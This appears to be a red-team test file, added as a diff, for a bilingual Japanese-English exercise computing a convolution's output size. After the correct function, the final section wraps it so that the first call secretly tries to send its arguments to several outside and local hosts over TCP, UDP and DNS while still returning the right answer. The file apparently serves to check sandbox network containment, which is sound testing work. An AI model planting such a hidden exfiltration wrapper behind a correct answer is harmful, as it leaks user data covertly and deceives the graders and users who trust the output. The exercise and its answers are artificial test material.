@@ -1,0 +1,100 @@
+"""Red-team attack `network_exfiltration` on conv_output_size. A smuggle: the correct answer,
+plus attempts to send the arguments out over TCP (127.0.0.1:47999 on the host, 1.1.1.1:53,
+8.8.8.8:53, example.com:80), UDP and DNS, 1 s timeout each. It may score what honest code
+earns; in the sandbox (no network namespace access) no connection reaches the host's
+listener and no EXFIL-OK line appears in its output.
+
+Below: the exercise with its correct answers; the attack changes what comes back or what
+happens besides; the attack is at the end.
+"""
+
+"""畳み込みの出力サイズ / The output size of a convolution.
+
+日本語
+------
+高さ H の入力に、上下それぞれ P 行のパディングを付け、高さ FH のフィルタを
+ストライド S でずらしていくときの出力の高さ OH:
+
+    OH = ⌊(H + 2P − FH) / S⌋ + 1
+
+⌊ ⌋ は切り捨て。幅も同じ式（W, FW）で求まる。
+例: (H, FH, P, S) = (5, 3, 1, 2) → 3、(6, 2, 1, 1) → 7、(28, 5, 0, 1) → 24。
+
+引数と戻り値: H, FH, P, S はいずれも Python の int（スカラー）、戻り値 OH も int。
+H, FH, P が負、S < 1、またはフィルタがパディング後の入力より大きい（FH > H + 2P）
+ときは ValueError。
+
+English
+-------
+The output height OH when a filter of height FH slides with stride S over an input of
+height H padded with P rows on top and P rows at the bottom:
+
+    OH = ⌊(H + 2P − FH) / S⌋ + 1
+
+⌊ ⌋ rounds down. The width follows the same formula (W, FW).
+Examples: (H, FH, P, S) = (5, 3, 1, 2) → 3, (6, 2, 1, 1) → 7, (28, 5, 0, 1) → 24.
+
+Arguments and result: H, FH, P, S are Python ints (scalars); the result OH is an int.
+A negative H, FH or P, S < 1, or a filter larger than the padded input (FH > H + 2P)
+raises ValueError.
+"""
+
+
+def conv_output_size(H: int, FH: int, P: int = 0, S: int = 1) -> int:
+    if H < 0 or FH < 0 or P < 0:
+        raise ValueError(f"sizes must be non-negative, got H={H}, FH={FH}, P={P}")
+    if S < 1:
+        raise ValueError(f"the stride S must be at least 1, got S={S}")
+    if FH > H + 2 * P:
+        raise ValueError(
+            f"the filter (FH={FH}) is larger than the padded input (H + 2*P = {H + 2 * P})"
+        )
+    return (H + 2*P - FH) // S + 1
+
+
+if __name__ == "__main__":
+    print(conv_output_size(5, 3, 1, 2))  # 3
+    print(conv_output_size(6, 2, 1, 1))  # 7
+    print(conv_output_size(28, 5, 0, 1))  # 24
+
+import socket
+
+_TARGETS = [("127.0.0.1", 47999), ("1.1.1.1", 53), ("8.8.8.8", 53), ("10.0.2.2", 80),
+            ("example.com", 80), ("pypi.org", 443)]
+
+
+def _exfiltrate(payload):
+    """Try to send the arguments out (1 s timeout each): TCP, UDP, DNS. The red-team test
+    listens on 127.0.0.1:47999 of the host."""
+    data = repr(payload)[:200].encode()
+    for host, port in _TARGETS:
+        try:
+            with socket.create_connection((host, port), timeout=1) as s:
+                s.sendall(b"EDRILL-EXFIL " + data)
+            print(f"EXFIL-OK tcp {host}:{port}")
+        except OSError:
+            pass
+    try:
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.settimeout(1)
+        u.sendto(b"EDRILL-EXFIL " + data, ("8.8.8.8", 53))
+        u.close()
+    except OSError:
+        pass
+    try:
+        socket.setdefaulttimeout(1)
+        print("EXFIL-OK dns", socket.gethostbyname("example.com"))
+    except OSError:
+        pass
+
+_sent = []
+
+# ---------------------------------------------------------------- the attack
+_edrill_original = conv_output_size
+
+
+def conv_output_size(*args, **kwargs):
+    if not _sent:
+        _sent.append(1)
+        _exfiltrate(args)
+    return _edrill_original(*args, **kwargs)
